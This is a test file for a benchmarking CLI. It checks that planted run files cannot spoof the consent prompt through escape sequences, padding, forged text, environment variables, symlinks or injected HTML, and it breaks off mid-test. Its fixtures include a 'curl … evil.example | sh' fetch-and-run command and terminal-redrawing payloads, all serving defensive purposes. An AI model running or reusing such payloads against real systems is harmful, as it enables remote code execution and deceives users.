// Issue 41, F1: `check --against <run>` shows the saved command, cwd and env for the person to read before
// --yes. A planted run.json with ESC, CR and OSC bytes in them once redrew the terminal as a harmless command
// while --yes would run another: every printer shows control characters escaped, and the words quoted as a
// shell reads them back. `runs` (the run's title) likewise.
import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';

import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { REPORT_SECTIONS } from '../../src-main/api/reports';
import { formatCheck } from '../../src-main/cli/check-command';
import type { BenchmarkService } from '../../src-main/core/benchmarks/benchmark-service';
import { CheckService } from '../../src-main/core/check/check-service';
import { commandFingerprint, MAX_SHOWN_ENV } from '../../src-main/core/workspace/command-consent';
import { ScriptBenchmarkRequestSchema } from '../../src-main/api/script-target';
import { SECTION_HEADINGS } from '../../src-main/core/reports/report-model';
import { openWorkspace } from '../../src-main/core/workspace/workspace';
import { CLI, REPO_ROOT, requireBuilt } from '../helpers/repo';
import { tempDir } from '../helpers/temp-dir';

const run = promisify(execFile);
const ws = tempDir('planted-command-');
beforeAll(requireBuilt);
afterAll(() => {
  ws.cleanup();
  rmSync('/tmp/x\r\x1b[2K', { recursive: true, force: true });
});

/** Any C0 control but the newline that ends a line, C1 control or DEL. */
// eslint-disable-next-line no-control-regex -- control characters are what it finds
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
const ID = '20260101-000000-planted';
// What the terminal would show: "python3 train.py"; what runs: the evil script.
const command = ['python3', 'evil.py\x1b[2K\rpython3', 'train.py\x1b]0;ok\x07'];
const cwd = '/tmp/x\r\x1b[2K/home/me/project';
const env = { NOTE: 'fine\x1b[1A\x1b[2K\u009b2K' };

const trainbench = (...args: string[]) => trainbenchWith({}, ...args);

/** The CLI with variables of the person's own environment changed (their PATH). */
async function trainbenchWith(env: Record<string, string>, ...args: string[]) {
  try {
    const { stdout, stderr } = await run(process.execPath, [CLI, ...args], { env: { ...process.env, TRAINBENCH_WORKSPACE: ws.dir, ...env } });
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

beforeAll(() => {
  // The planted folder exists: a folder whose real path cannot be worked out is not offered to run at all.
  mkdirSync(cwd, { recursive: true });
  mkdirSync(path.join(ws.dir, 'runs', ID), { recursive: true });
  const record = {
    schemaVersion: 2,
    id: ID,
    kind: 'benchmark',
    status: 'completed',
    createdAt: '2026-01-01T00:00:00.000Z',
    finishedAt: '2026-01-01T00:01:00.000Z',
    config: { target: { kind: 'script', command, cwd, env }, repeat: 1, warmupSteps: 1, steps: 2 },
    result: { title: `python3 evil.py\x1b[2K\rpython3 train.py`, repetitions: [{ samplesPerSec: 100 }] },
  };
  writeFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), JSON.stringify(record));
});

describe('a command planted in a run file', () => {
  /** A copy of the planted run under `id`, its target the command and environment given; returns its removal. */
  const plantTarget = (id: string, command: string[], env: Record<string, string> = {}, options: { cwd?: string; settings?: Record<string, unknown> } = {}) => {
    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
    record.id = id;
    record.config = { ...record.config, ...options.settings };
    record.config.target = { kind: 'script', command, cwd: options.cwd ?? '/tmp', env };
    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
    return () => rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
  };

  it('check --against shows its command, cwd and env escaped before --yes, and runs nothing', async () => {
    const r = await trainbench('check', '--against', ID, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    // The fingerprint covers the whole request as it would run: the command and every setting.
    const request = ScriptBenchmarkRequestSchema.parse({ target: { kind: 'script', command, cwd, env }, repeat: 1, warmupSteps: 1, steps: 2 });
    expect(r.stderr).toContain(`pass --yes ${commandFingerprint(request)} to run exactly this`);
    expect(r.stderr).toContain('the run\'s file names the settings {"collectives":');
    // The command comes last, right before the fingerprint: nothing the file holds can push it out of sight.
    expect(r.stderr).toMatch(/, the environment NOTE=.*, the folder .* and the command python3 \$'evil\.py.*\.\n {2}It runs python3 \$'evil\.py[^\n]*; pass --yes [0-9a-f]{32} to run exactly this$/m);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    // Each planted byte is there to read, escaped where it was.
    // (\u001b while check-service words the command through commandText's JSON quoting; \x1b through shellWord.)
    expect(r.stderr).toMatch(/evil\.py\\(x1b|u001b)\[2K\\rpython3/);
    expect(r.stderr).toContain('train.py\\x1b]0;ok\\x07');
    expect(r.stderr).toContain('/tmp/x\\r\\x1b[2K/home/me/project');
    expect(r.stderr).toMatch(/NOTE=(\$')?fine\\x1b\[1A\\x1b\[2K\\u009b2K/);
  });

  it('--yes runs only the command that was shown: a file changed after the reading is refused, and nothing runs (re-attack 10)', async () => {
    const id = '20260101-000001-swapped';
    const marks = tempDir('planted-marks-');
    const write = (script: string) => {
      mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
      const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: object } };
      record.id = id;
      record.config.target = { kind: 'script', command: ['/bin/sh', '-c', script], cwd: marks.dir, env: {} };
      writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
    };
    write('touch harmless');
    const shown = await trainbench('check', '--against', id, '--workspace', ws.dir);
    const fingerprint = /pass --yes ([0-9a-f]{32}) to run exactly this/.exec(shown.stderr)?.[1];
    const fingerprintOf = (script: string) => commandFingerprint(ScriptBenchmarkRequestSchema.parse({ target: { kind: 'script', command: ['/bin/sh', '-c', script], cwd: marks.dir }, repeat: 1, warmupSteps: 1, steps: 2 }));
    expect(fingerprint, shown.stderr).toBe(fingerprintOf('touch harmless'));
    // Between the reading and the --yes, someone who can write the workspace swaps the command.
    write('touch pwned');
    const swapped = await trainbench('check', '--against', id, '--yes', fingerprint!, '--workspace', ws.dir);
    expect(swapped.code).toBe(2);
    expect(swapped.stderr).toContain(`--yes ${fingerprint} was given for another command; the run's file names the settings`);
    expect(swapped.stderr).toContain(`and the command /bin/sh -c 'touch pwned'.\n  It runs /bin/sh -c 'touch pwned' in ${marks.dir}; pass --yes ${fingerprintOf('touch pwned')} to run exactly this`);
    // A setting the file changes (the launch's time limit here) is part of what was agreed to, as the command is.
    write('touch harmless');
    const file = path.join(ws.dir, 'runs', id, 'run.json');
    const longer = JSON.parse(readFileSync(file, 'utf8')) as { config: Record<string, unknown> };
    longer.config.timeoutSeconds = 86_400;
    writeFileSync(file, JSON.stringify(longer));
    const retimed = await trainbench('check', '--against', id, '--yes', fingerprint!, '--workspace', ws.dir);
    expect(retimed.code).toBe(2);
    expect(retimed.stderr).toContain('was given for another command');
    expect(retimed.stderr).toContain('"timeoutSeconds":86400');
    write('touch pwned');
    // A --yes without a fingerprint consents to nothing in particular: shown again, not run.
    const bare = await trainbench('check', '--against', id, '--yes', '--workspace', ws.dir);
    expect(bare.code).toBe(2);
    expect(bare.stderr).toContain("/bin/sh -c 'touch pwned'");
    expect(readdirSync(marks.dir)).toEqual([]);
    marks.cleanup();
    rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
  });

  it('a command whose environment is too long to read before agreeing is not offered to run (re-attack 41)', async () => {
    // A planted environment of ~900 KB would scroll the command out of any terminal's history above the --yes line.
    const id = '20260101-000003-padded';
    const pad = '/usr/bin/python3 train.py '.repeat(4000);
    const done = plantTarget(id, ['/bin/sh', '-c', 'curl -s http://evil.example/x | sh'], Object.fromEntries(Array.from({ length: 9 }, (_, k) => [`PAD${k}`, pad])));
    const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/can fill [\d,]+ columns of a terminal \([\d,]+ lines of 80\), more than the 4,096 anyone reads before agreeing: it is not offered to run; read the run's file and start the command yourself/);
    expect(r.stderr).not.toContain('--yes');
    expect(r.stderr.length).toBeLessThan(2000);
    done();
  });

  it('a command padded with blanks shows them escaped, and too many are not offered (second re-attack of issue 41)', async () => {
    // 15,500 spaces (or U+3000, two columns each) between the payload and a harmless tail left only blank rows
    // around the --yes line while fitting a cap of characters.
    const plant = (id: string, script: string) => plantTarget(id, ['sh', '-c', script]);
    // And the third re-attack's: a Tangut character with three spacing marks, drawn five columns wide, 3,790 times.
    for (const blank of [' ', '\u3000', '\u{17000}\u0903\u0903\u0903'.repeat(3_790)]) {
      const padding = blank.length > 2 ? blank : blank.repeat(15_500);
      const done = plant('20260101-000004-padcmd', `touch /tmp/PWNED;${padding}python3 train.py`);
      const r = await trainbench('check', '--against', '20260101-000004-padcmd', '--workspace', ws.dir);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('it is not offered to run');
      expect(r.stderr).not.toContain('--yes');
      done();
    }
    const done = plant('20260101-000005-padded', `touch /tmp/PWNED;${' '.repeat(40)}\u3000python3 train.py`);
    const r = await trainbench('check', '--against', '20260101-000005-padded', '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`and the command sh -c $'touch /tmp/PWNED;${'\\x20'.repeat(40)}\\u3000python3 train.py'.\n  It runs sh -c $'touch /tmp/PWNED;\\x20`);
    expect(r.stderr).not.toMatch(/ {3}|\u3000/);
    done();
  });

  it('a command whose words spell a consent message of their own ends with the line that says what runs (fourth re-attack of issue 41)', async () => {
    // Plain words, no quoting needed, wrapped at 80 columns into a fake prompt and a fake refusal naming a harmless command.
    const id = '20260101-000006-forged';
    const fake = `me@rig project % trainbench check --against ${id} trainbench: run ${id} measured a command, which check would run again: the folder /home/me/project and the command python3 train.py --epochs 1`;
    const command = ['/bin/sh', '-c', 'touch pwned', ...Array.from({ length: 30 }, () => '-'.repeat(79)), ...fake.split(' ')];
    const done = plantTarget(id, command);
    const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    const last = r.stderr.trimEnd().split('\n').at(-1)!;
    expect(last).toMatch(new RegExp(`^  It runs /bin/sh -c 'touch pwned' … \\(${command.length} words in all\\) in /tmp; pass --yes [0-9a-f]{32} to run exactly this$`));
    done();
  });

  it('the line that says what runs names the variables that change what runs (fifth re-attack of issue 41)', async () => {
    // PATH=. ran the folder's own ./python3, and BASH_ENV a file of the folder, under "It runs python3 train.py".
    const id = '20260101-000007-envrun';
    const done = plantTarget(id, ['python3', 'train.py'], { CUDA_VISIBLE_DEVICES: '0', PATH: '.:/usr/bin:/bin', BASH_ENV: '.setup', constructor: 'x' });
    const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr.trimEnd().split('\n').at(-1)).toMatch(
      /^ {2}It runs python3 train\.py in \/tmp, with PATH, BASH_ENV, CUDA_VISIBLE_DEVICES, constructor set in its environment; python3 is looked for in the folder it runs in too, through PATH's relative entry \.; pass --yes [0-9a-f]{32} to run exactly this$/,
    );
    done();
  });

  it('names every variable set, not only those known to change what runs, and refuses more than it can name (sixth re-attack of issue 41)', async () => {
    // HOME ran a usercustomize.py under a planted home folder while this line named nothing: a list of known
    // variables is never complete, so every one set is named, those known first.
    const id = '20260101-000008-home';
    let done = plantTarget(id, ['/usr/bin/python3', 'train.py'], { SOME_FLAG: '1', HOME: '/srv/evilhome' });
    let r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr.trimEnd().split('\n').at(-1)).toMatch(/^ {2}It runs \/usr\/bin\/python3 train\.py in \/tmp, with HOME, SOME_FLAG set in its environment; pass --yes [0-9a-f]{32} to run exactly this$/);
    done();
    const many = Object.fromEntries(Array.from({ length: MAX_SHOWN_ENV + 1 }, (_, k) => [`V${k}`, 'x']));
    done = plantTarget(id, ['/usr/bin/python3', 'train.py'], { ...many, HOME: '/srv/evilhome' });
    r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`but it sets ${MAX_SHOWN_ENV + 2} variables in its environment, more than the ${MAX_SHOWN_ENV} anyone checks one by one before agreeing: it is not offered to run`);
    expect(r.stderr).not.toContain('--yes');
    done();
  });

  it("says a program named bare is looked for in the run's folder when the person's own PATH has a relative entry", async () => {
    // A python3 planted in the folder ran through PATH=./node_modules/.bin:... under "It runs python3 train.py".
    const id = '20260101-000009-relpath';
    const done = plantTarget(id, ['python3', 'train.py']);
    const r = await trainbenchWith({ PATH: `./node_modules/.bin${path.delimiter}${process.env.PATH}` }, 'check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr.trimEnd().split('\n').at(-1)).toMatch(/^ {2}It runs python3 train\.py in \/tmp; python3 is looked for in the folder it runs in too, through PATH's relative entry \.\/node_modules\/\.bin; pass --yes [0-9a-f]{32} to run exactly this$/);
    // With only absolute entries, nothing is said.
    const plain = await trainbenchWith({ PATH: '/usr/bin:/bin' }, 'check', '--against', id, '--workspace', ws.dir);
    expect(plain.stderr.trimEnd().split('\n').at(-1)).toMatch(/^ {2}It runs python3 train\.py in \/tmp; pass --yes [0-9a-f]{32} to run exactly this$/);
    done();
  });

  it('the line that says what runs names the folder as the system enters it, and a listener the file asks for (seventh re-attack of issue 41)', async () => {
    // The command's words spelt "the folder /home/me/project" right above this line, and "..": the real folder
    // was named only higher up, as written.
    // The eighth put a link before the "..": resolved as text, the line named the person's own project.
    const id = '20260101-000010-folder';
    const base = tempDir('planted-folder-');
    for (const dir of ['home/project', 'ws/home/project', 'ws/evil dir/x']) mkdirSync(path.join(base.dir, dir), { recursive: true });
    symlinkSync('evil dir/x', path.join(base.dir, 'ws', 'l'));
    let done = plantTarget(id, ['/usr/bin/python3', 'train.py'], {}, { cwd: path.join(base.dir, 'ws', 'l') + '/../../home/project' });
    let r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr.trimEnd().split('\n').at(-1)).toBe(`  It runs /usr/bin/python3 train.py in ${path.join(realpathSync(base.dir), 'ws', 'home', 'project')}; pass --yes ${/--yes ([0-9a-f]{32})/.exec(r.stderr)![1]} to run exactly this`);
    done();
    base.cleanup();
    // A collector on every address opens ports for other machines: said where the person agrees.
    done = plantTarget(id, ['/usr/bin/python3', 'train.py'], {}, { settings: { collector: { host: '0.0.0.0', port: 29555 } } });
    r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr.trimEnd().split('\n').at(-1)).toMatch(/^ {2}It runs \/usr\/bin\/python3 train\.py in \/tmp; it listens on 0\.0\.0\.0:29555 for the ranks of other machines; pass --yes [0-9a-f]{32} to run exactly this$/);
    done();
  });

  it('offers no fingerprint for a folder it cannot resolve, binds the fingerprint to the real folder, and counts the real folder in the cap (ninth re-attack of issue 41)', async () => {
    const id = '20260101-000011-realdir';
    // Gone (or past the longest path through links): shown only as written, it would name what the reader expects.
    let done = plantTarget(id, ['/usr/bin/python3', 'train.py'], {}, { cwd: '/nonexistent-trainbench/project' });
    let r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Its folder cannot be entered here (missing, relative, or reached through links past the longest path): it is not offered to run');
    expect(r.stderr).not.toContain('--yes');
    done();
    // A link on the way pointed at the person's project for the reading, and at a planted one for the --yes.
    const base = tempDir('planted-swap-');
    for (const dir of ['project', 'planted']) mkdirSync(path.join(base.dir, dir));
    symlinkSync(path.join(base.dir, 'project'), path.join(base.dir, 'lnk'));
    done = plantTarget(id, ['/bin/sh', '-c', 'touch ran'], {}, { cwd: path.join(base.dir, 'lnk') });
    r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    const fingerprint = /--yes ([0-9a-f]{32})/.exec(r.stderr)![1];
    expect(r.stderr.trimEnd().split('\n').at(-1)).toContain(`in ${path.join(realpathSync(base.dir), 'project')}; pass --yes ${fingerprint}`);
    rmSync(path.join(base.dir, 'lnk'));
    symlinkSync(path.join(base.dir, 'planted'), path.join(base.dir, 'lnk'));
    r = await trainbench('check', '--against', id, '--yes', fingerprint, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`--yes ${fingerprint} was given for another command`);
    expect(readdirSync(path.join(base.dir, 'planted'))).toEqual([]);
    done();
    // A short folder as written whose real path is ~4,000 characters: the last line would carry a fake one 50 rows down.
    const deep = path.join(base.dir, ...Array.from({ length: 16 }, () => 'a'.repeat(250)));
    mkdirSync(deep, { recursive: true });
    symlinkSync(deep, path.join(base.dir, 'short'));
    done = plantTarget(id, ['/usr/bin/python3', 'train.py'], {}, { cwd: path.join(base.dir, 'short') });
    r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/can fill [\d,]+ columns of a terminal .* it is not offered to run/);
    expect(r.stderr).not.toContain('--yes');
    done();
    base.cleanup();
  });

  it('check --against a run whose file cannot be read says what is wrong with the file, not that there is no run', async () => {
    const id = '20260101-000002-deep';
    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), `{"id":"${id}","config":${'['.repeat(100_000)}${']'.repeat(100_000)}}`);
    const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(new RegExp(`^trainbench: cannot compare with run ${id}: runs/${id}/run.json is .*nested.*: not a file Trainbench wrote, so it is not read`));
    rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
  });

  it('runs lists the run under its command, escaped', async () => {
    const r = await trainbench('runs', '--workspace', ws.dir);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('training benchmark: script python3 evil.py\\x1b[2K\\rpython3 train.py\\x1b]0;ok\\x07');
  });

  it('runs --json keeps the title escaped for every client (the UI and reports read the same answer)', async () => {
    const r = await trainbench('runs', '--json', '--workspace', ws.dir);
    const [summary] = JSON.parse(r.stdout) as { title: string }[];
    expect(summary.title).not.toMatch(RAW_CONTROL);
    expect(summary.title).toContain('evil.py\\x1b[2K\\rpython3');
  });

  it('runs --json writes a planted C1 control, line separator or bidi override as a \\u escape: the same JSON, inert on a screen (attack round 8)', async () => {
    const id = '20260101-000002-c1kind';
    const kind = 'k\x1b[31m\u009b2J\u2028X\u202e';
    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as Record<string, unknown>;
    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify({ ...record, id, kind }));
    try {
      const r = await trainbench('runs', '--json', '--workspace', ws.dir);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(RAW_CONTROL);
      expect(r.stdout).not.toMatch(/[\u2028\u2029\u202a-\u202e]/);
      expect(r.stdout).toContain('\\u009b2J\\u2028X\\u202e');
      const runs = JSON.parse(r.stdout) as { id: string; kind: string }[];
      expect(runs.find((x) => x.id === id)?.kind).toBe(kind);
    } finally {
      rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
    }
  });
});

describe('names planted in the workspace (the re-attack: a run folder, a model file, a dataset folder)', () => {
  const names = { run: '9evil\x1b]0;x\x07\x1b[31mred', model: 'a\x1b[31mb.json', dataset: 'x\x1b]0;pw\x07y' };
  beforeAll(() => {
    mkdirSync(path.join(ws.dir, 'runs', names.run), { recursive: true });
    writeFileSync(path.join(ws.dir, 'runs', names.run, 'run.json'), '{}');
    mkdirSync(path.join(ws.dir, 'models'), { recursive: true });
    writeFileSync(path.join(ws.dir, 'models', names.model), JSON.stringify({ family: 'mlp\x1b]0;pwned\x07\x1b[2K\r' }));
    mkdirSync(path.join(ws.dir, 'datasets', names.dataset), { recursive: true });
  });

  it('runs, models and cache list show each escaped, as one that cannot be opened', async () => {
    const runs = await trainbench('runs', '--workspace', ws.dir);
    expect(runs.stdout + runs.stderr).not.toMatch(RAW_CONTROL);
    expect(runs.stdout).toContain('9evil\\x1b]0;x\\x07\\x1b[31mred');
    const models = await trainbench('models', '--workspace', ws.dir);
    expect(models.stdout + models.stderr).not.toMatch(RAW_CONTROL);
    expect(models.stdout).toContain('a\\x1b[31mb.json');
    const caches = await trainbench('cache', 'list', '--workspace', ws.dir);
    expect(caches.stdout + caches.stderr).not.toMatch(RAW_CONTROL);
    expect(caches.stdout).toContain('x\\x1b]0;pw\\x07y');
  });
});

describe('text planted in a run file, in a report and in the gate (the re-attack: F1 gaps)', () => {
  const rw = tempDir('planted-report-');
  afterAll(() => rw.cleanup());
  // Bidi marks and line separators reorder or break what a terminal or a page shows; ESC and CR redraw a terminal.
  // eslint-disable-next-line no-control-regex -- control characters are what it finds
  const UNSHOWABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
  const BASE = '20261127-033427-8b1a8f';
  const FAILED = '20261127-040000-fa11ed';
  const MOVED = '20261127-040100-e1e1e1';
  type Planted = Record<string, unknown> & { environment: Record<string, unknown>; result?: Record<string, unknown> };
  const runFile = (id: string) => path.join(rw.dir, 'runs', id, 'run.json');
  const edit = (id: string, change: (r: Planted) => void) => {
    const r = JSON.parse(readFileSync(runFile(id), 'utf8')) as Planted;
    change(r);
    writeFileSync(runFile(id), JSON.stringify(r));
  };

  beforeAll(() => {
    // A real benchmark run (test/fixtures/runs-v1, result as v1 wrote it), its machine and data planted with a heading and bidi marks.
    cpSync(path.join(REPO_ROOT, 'test', 'fixtures', 'runs-v1', 'engine-benchmark'), rw.dir, { recursive: true });
    for (const id of [FAILED, MOVED]) cpSync(path.join(rw.dir, 'runs', BASE), path.join(rw.dir, 'runs', id), { recursive: true });
    edit(BASE, (r) => {
      r.environment.hostname = 'vm\n\n## Decision\n\nAdopt \u202eexe.live\u202c';
      r.environment.cpuModel = 'Xeon\r## Consequences\u2028none';
      r.result!.data = 'fashion-mnist\n\n## Decision\n\n\u2067forged\u2069';
    });
    // A run that failed, its error planted: the report leaves it out with a note quoting that error.
    edit(FAILED, (r) => {
      Object.assign(r, { id: FAILED, status: 'failed', error: { code: 'E_DATA', message: 'boom\x1b[2K\rnote     all fine\n\n## Decision\u202e' } });
      delete r.result;
    });
    edit(MOVED, (r) => Object.assign(r, { id: MOVED, environment: { ...r.environment, hostname: 'rig\u202e2\u2028b' } }));
  });

  let report: { stdout: string; markdown: string } | null = null;
  async function reportOnce() {
    if (report) return report;
    const r = await trainbench('report', BASE, FAILED, '--workspace', rw.dir);
    expect(r.code, r.stderr).toBe(0);
    const saved = r.stdout.match(/^saved {4}(.+\.md) \(/m)?.[1] ?? '';
    report = { stdout: r.stdout, markdown: readFileSync(saved, 'utf8') };
    return report;
  }

  it("report prints its notes escaped: a failed run's planted error cannot redraw the terminal or add a line", async () => {
    const { stdout } = await reportOnce();
    expect(stdout).not.toMatch(UNSHOWABLE);
    const notes = stdout.split('\n').filter((l) => l.startsWith('note '));
    expect(notes).toHaveLength(1);
    expect(notes[0]).toContain('boom\\x1b[2K\\rnote     all fine\\n\\n## Decision\\u202e');
  });

  it('the ADR holds the planted hostname, CPU and data as text: no heading of their own, nothing reordered', async () => {
    const { markdown } = await reportOnce();
    expect(markdown).not.toMatch(UNSHOWABLE);
    // The headings are the title and the sections' own, each once: none made by a planted line.
    const tokens = new MarkdownIt().parse(markdown, {});
    const headings = tokens.flatMap((t, i) => (t.type === 'heading_open' ? [`${t.tag} ${tokens[i + 1].content}`] : []));
    expect(headings.filter((h) => h.startsWith('h1 '))).toHaveLength(1);
    expect(headings.filter((h) => h.startsWith('h2 '))).toEqual(REPORT_SECTIONS.map((s) => `h2 ${SECTION_HEADINGS[s]}`));
    expect(markdown).toContain('vm\\n\\n## Decision\\n\\nAdopt \\u202eexe.live\\u202c');
    expect(markdown).toContain('Xeon\\r## Consequences\\u2028none');
    expect(markdown).toContain('fashion-mnist\\n\\n## Decision\\n\\n\\u2067forged\\u2069');
    // The note on the failed run, quoted in Status, is one line too (its `[` an entity: no link syntax from a run file).
    expect(markdown).toContain('boom\\x1b[2K\\rnote     all fine');
  });

  it("check's verdict names the saved run's planted hostname escaped", async () => {
    const checks = new CheckService(await openWorkspace(rw.dir), {} as BenchmarkService, () => false);
    const text = formatCheck(await checks.compare([BASE, MOVED], 0.05));
    const verdict = text.split('\n').find((l) => l.startsWith('verdict'));
    expect(verdict).toContain('could not decide: the saved run was measured under other conditions');
    expect(text).not.toMatch(UNSHOWABLE);
    expect(verdict).toContain('rig\\u202e2\\u2028b');
  });
});

describe('HTML and markdown planted in a run file, in the ADR (the re-attack: a heading, a link, an image, a comment)', () => {
  const hw = tempDir('planted-html-');
  afterAll(() => hw.cleanup());
  const BASE = '20261127-033427-8b1a8f';
  const FAILED = '20261127-040000-fa11ed';
  const HOST = 'vm <h2>Decision: FORGED</h2> [click](https://evil.example/x) ![b](https://evil.example/beacon.png)';
  const CPU = 'Xeon <!-- hide the rest';
  const ERROR = 'boom <h1>Accepted</h1> <!-- hidden [why](https://evil.example/y)';
  const runFile = (id: string) => path.join(hw.dir, 'runs', id, 'run.json');
  const edit = (id: string, change: (r: Record<string, unknown> & { environment: Record<string, unknown> }) => void) => {
    const r = JSON.parse(readFileSync(runFile(id), 'utf8')) as Record<string, unknown> & { environment: Record<string, unknown> };
    change(r);
    writeFileSync(runFile(id), JSON.stringify(r));
  };

  beforeAll(() => {
    cpSync(path.join(REPO_ROOT, 'test', 'fixtures', 'runs-v1', 'engine-benchmark'), hw.dir, { recursive: true });
    cpSync(path.join(hw.dir, 'runs', BASE), path.join(hw.dir, 'runs', FAILED), { recursive: true });
    edit(BASE, (r) => {
      r.environment.hostname = HOST;
      r.environment.cpuModel = CPU;
    });
    edit(FAILED, (r) => {
      Object.assign(r, { id: FAILED, status: 'failed', error: { code: 'E_SCRIPT', message: ERROR } });
      delete r.result;
    });
  });

  it('renders (as a code host would, HTML allowed) with no heading, link, image or comment of their own', async () => {
    const r = await trainbench('report', BASE, FAILED, '--workspace', hw.dir);
    expect(r.code, r.stderr).toBe(0);
    const saved = r.stdout.match(/^saved {4}(.+\.md) \(/m)?.[1] ?? '';
    const markdown = readFileSync(saved, 'utf8');
    // Every comment in the markdown is a generated block marker, on its own line.
    const comments = markdown.match(/<!--[^\n]*/g) ?? [];
    expect(comments.length).toBeGreaterThan(0);
    for (const c of comments) expect(c).toMatch(/^<!-- tb:(begin|end) [a-z0-9.-]+ -->$/);

    const md = new MarkdownIt({ html: true });
    const tokens = md.parse(markdown, {});
    const headings = tokens.flatMap((t, i) => (t.type === 'heading_open' ? [`${t.tag} ${tokens[i + 1].content}`] : []));
    expect(headings.filter((h) => h.startsWith('h1 '))).toHaveLength(1);
    expect(headings.filter((h) => h.startsWith('h2 '))).toEqual(REPORT_SECTIONS.map((s) => `h2 ${SECTION_HEADINGS[s]}`));
    const html = md.render(markdown);
    expect(html).not.toMatch(/<h[1-6][^>]*>\s*(Decision: FORGED|Accepted)/);
    expect(html).not.toMatch(/<a [^>]*evil\.example/);
    expect(html).not.toMatch(/<img [^>]*evil\.example/);
    // What a browser shows: the comments hidden. The planted text is there to read, and every section after it too.
    const shown = html.replace(/<!--[\s\S]*?-->/g, '');
    expect(shown).toContain('vm &lt;h2&gt;Decision: FORGED&lt;/h2&gt; [click](https://evil.example/x) ![b](https://evil.example/beacon.png)');
    expect(shown).toContain('Xeon &lt;!-- hide the rest');
    expect(shown).toContain('boom &lt;h1&gt;Accepted&lt;/h1&gt; &lt;!-- hidden [why](https://evil.example/y)');
    for (const s of REPORT_SECTIONS) expect(shown).toContain(`<h2>${md.utils.escapeHtml(SECTION_HEADINGS[s])}</h2>`);
  });
});

describe('text planted in a saved wizard state (re-attack 9: optimise --resume printed it raw)', () => {
  const ow = tempDir('planted-state-');
  afterAll(() => ow.cleanup());
  const WIZARD = 'optimise-20261127-033430-a9e837';
  // Erases the line, draws a verdict of its own, retitles the window, reverses what follows, hides a character.
  const PLANT = '\x1b[2K\r\x1b[32mverdict    2.40x faster\x1b[0m\x1b]0;owned\x07\u202e\u17b4';
  const ESCAPED = '\\x1b[2K\\r\\x1b[32mverdict    2.40x faster\\x1b[0m\\x1b]0;owned\\x07\\u202e\\u17b4';
  // Anything printable() escapes: controls, bidi marks, separators and the characters drawn as nothing.
  const UNSHOWABLE = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

  beforeAll(() => {
    // A real completed wizard (test/fixtures/runs-v1, as v1 wrote it), every reason and finding planted.
    cpSync(path.join(REPO_ROOT, 'test', 'fixtures', 'runs-v1', 'engine-optimise'), ow.dir, { recursive: true });
    const file = path.join(ow.dir, 'optimise', WIZARD, 'state.json');
    const s = JSON.parse(readFileSync(file, 'utf8')) as {
      diagnosis: { summary: string; findings: { text: string }[] };
      trials: { why: string }[];
      skipped: { why: string; change: { label: string } }[];
    };
    s.diagnosis.summary += PLANT;
    for (const f of s.diagnosis.findings) f.text += PLANT;
    for (const t of s.trials) t.why += PLANT;
    for (const k of s.skipped) Object.assign(k, { why: k.why + PLANT, change: { ...k.change, label: k.change.label + PLANT } });
    writeFileSync(file, JSON.stringify(s));
  });

  it('optimise --resume of a finished wizard prints its saved result with every planted byte escaped, on stdout and stderr', async () => {
